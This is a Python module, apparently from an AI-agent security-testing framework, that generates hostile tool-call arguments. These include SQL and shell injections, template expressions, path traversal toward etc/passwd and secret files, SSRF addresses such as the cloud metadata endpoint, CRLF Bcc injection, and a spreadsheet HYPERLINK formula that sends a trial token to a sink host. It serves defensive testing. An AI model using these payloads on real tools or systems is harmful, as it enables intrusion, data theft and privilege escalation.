"""Arguments that no tool should take: one kind of fault at a time, in otherwise honest calls.

What a tool computes or leaves is told apart from what it echoes: sums such as 1337 * 7919 whose result stands in no
argument, and this trial's token and host. None of them destroys anything by itself.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import Any

from bartizan.attacks.chat.agent.sandbox import outside_paths
from bartizan.attacks.chat.tools.schema import Meaning, Parameter, honest_arguments, parameters_of
from bartizan.core.chat import ToolOffer
from bartizan.core.transcript import OTHER_USER, Marks

PRODUCT = "10587703"
"""1337 * 7919: in an answer only where something computed it."""
_SUM = "1337*7919"
_EXPR = r"expr 1337 \* 7919"
_LONG = 250_000
"""Characters of an oversized argument."""

Faults = Callable[[Parameter, Marks], tuple[Any, ...]]
"""The bad values for one parameter; none where it is not of that sort."""


def out_of_range(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Numbers beyond any limit, texts that are empty or longer than said, words that are no choice."""
    if one.type in ("number", "integer"):
        near = [one.least - 1] if one.least is not None else []
        near += [one.greatest + 1] if one.greatest is not None else []
        return (*near, 0, -(10**12), 10**12, 1e308)
    if one.choices:
        return ("no-such-choice", "")
    return (
        ("", "x" * (one.longest + 1)) if one.type == "string" and (one.longest or 0) < _LONG and one.longest else ("",)
    )


def wrong_types(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Values of every other type, and objects that databases take for operators."""
    values: dict[str, tuple[Any, ...]] = {
        "string": (7, None, True, ["a", "b"], {"$ne": ""}),
        "number": ("NaN", "1e999", "-1", None, True, [1], {"$gt": 0}),
        "integer": ("NaN", "1e999", "-1", 1.5, None, [1], {"$gt": 0}),
        "boolean": ("no", 2, None, []),
        "array": ("a", {"0": "a"}, None),
        "object": ("{}", ["a"], None),
    }
    return values.get(one.type, ({"$ne": ""}, None))


def oversized(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """One very long text, or a number beyond 64 bits."""
    return (2**63,) if one.type in ("number", "integer") else ("A" * _LONG,) if _is_text(one) else ()


def negative(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Amounts below zero, and none at all."""
    return (-1, -100.5, -0.01, "-5") if one.meaning == "amount" and one.type != "string" else ()


def traversal(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Paths that lead out of a folder, where it takes a path."""
    return (*outside_paths("etc/passwd"), "../.env", "../secrets/keys.txt", ".") if _is(one, "path") else ()


def sql(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Texts that end a literal of a query and go on as a query; none changes data."""
    if not _is(one, "identity", "query", "text", "mail"):
        return ()
    return ("'", "' OR '1'='1", f"x' UNION SELECT {_SUM} -- ", f"x' UNION SELECT {_SUM},2,3 -- ", '" OR 1=1 -- ', "%")


def shell(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Texts that a shell takes for commands; all they do is a sum."""
    if not _is(one, "path", "command", "identity", "query", "text", "address"):
        return ()
    return (f"x; {_EXPR}", f"x && {_EXPR}", f"x | {_EXPR}", f"$({_EXPR})", f"`{_EXPR}`", f"x\n{_EXPR}", f'"; {_EXPR} #')


def template(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Expressions of common template languages."""
    if not _is_text(one):
        return ()
    return (f"{{{{{_SUM}}}}}", f"${{{_SUM}}}", f"<%= {_SUM} %>", f"#{{{_SUM}}}", f"#set($x={_SUM})$x")


def line_breaks(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Line breaks that begin a header of their own in a mail or a request."""
    if not _is(one, "mail", "text", "address", "identity"):
        return ()
    bcc = f"Bcc: {marks.token}@{marks.sink}"
    return (f"{one.honest}\r\n{bcc}", f"{one.honest}\n{bcc}", f"{one.honest}%0d%0a{bcc}")


def formula(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Texts that a spreadsheet computes."""
    if not _is(one, "text", "identity"):
        return ()
    return (f"={_SUM}", f'=HYPERLINK("https://{marks.sink}/{marks.token}")', f"@SUM({_SUM})", f"\t={_SUM}")


def addresses(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Addresses that only the server can reach, and the attacker's own."""
    if not _is(one, "address"):
        return ()
    inside = (
        "http://127.0.0.1:9/",
        "http://[::1]:9/",
        "http://169.254.169.254/latest/meta-data/",
        "http://2130706433:9/",
    )
    return (*inside, "file:///etc/passwd", f"https://{marks.sink}/?d={marks.token}")


def others_ids(one: Parameter, marks: Marks) -> tuple[Any, ...]:
    """Somebody else's: what an attacker guesses, and what stands for everything."""
    if one.type in ("integer", "number"):
        return (0, 2, 3, 1000, 1001) if one.meaning == "identity" else ()
    if not _is(one, "identity", "query", "path", "text"):
        return ()
    return ("*", "%", OTHER_USER, "1", "2", "1001", f"documents/{OTHER_USER}", "secret", "account", "contract", "code")


FAULTS: dict[str, Faults] = {
    "tool_out_of_range": out_of_range,
    "tool_wrong_types": wrong_types,
    "tool_oversized": oversized,
    "tool_negative": negative,
    "tool_traversal": traversal,
    "tool_sql": sql,
    "tool_shell": shell,
    "tool_template": template,
    "tool_line_breaks": line_breaks,
    "tool_formula": formula,
    "tool_addresses": addresses,
    "tool_others_ids": others_ids,
}
"""By the id of the attack."""

_EXTRAS: tuple[tuple[str, Any], ...] = (
    ("as_user", OTHER_USER),
    ("user", OTHER_USER),
    ("user_id", OTHER_USER),
    ("owner", OTHER_USER),
    ("tenant", "*"),
    ("role", "admin"),
    ("is_admin", True),
    ("debug", True),
)


def spoiled(offer: ToolOffer, faults: Faults, marks: Marks) -> Iterator[dict[str, Any]]:
    """Honest calls with one bad value each."""
    honest = honest_arguments(offer)
    for one in parameters_of(offer):
        for value in faults(one, marks):
            yield {**honest, one.name: value}


def missing(offer: ToolOffer, marks: Marks) -> Iterator[dict[str, Any]]:
    """Calls without one of what is required, and without anything."""
    honest = honest_arguments(offer)
    for name in honest:
        yield {key: value for key, value in honest.items() if key != name}
    yield {}


def unoffered(offer: ToolOffer, marks: Marks) -> Iterator[dict[str, Any]]:
    """Calls with one parameter more than offered, such as might say on whose behalf; with bait in place of names."""
    honest = honest_arguments(offer)
    known = parameters_of(offer)
    baits = [honest, *({**honest, one.name: bait} for one in known for bait in _baits(one))]
    for name, value in _EXTRAS:
        if name not in {one.name for one in known}:
            yield from ({**arguments, name: value} for arguments in baits)


def _baits(one: Parameter) -> tuple[str, ...]:
    return ("account", "contract") if _is(one, "identity", "query") else ()


def _is(one: Parameter, *meanings: Meaning) -> bool:
    return _is_text(one) and one.meaning in meanings


def _is_text(one: Parameter) -> bool:
    return one.type in ("string", "") and not one.choices
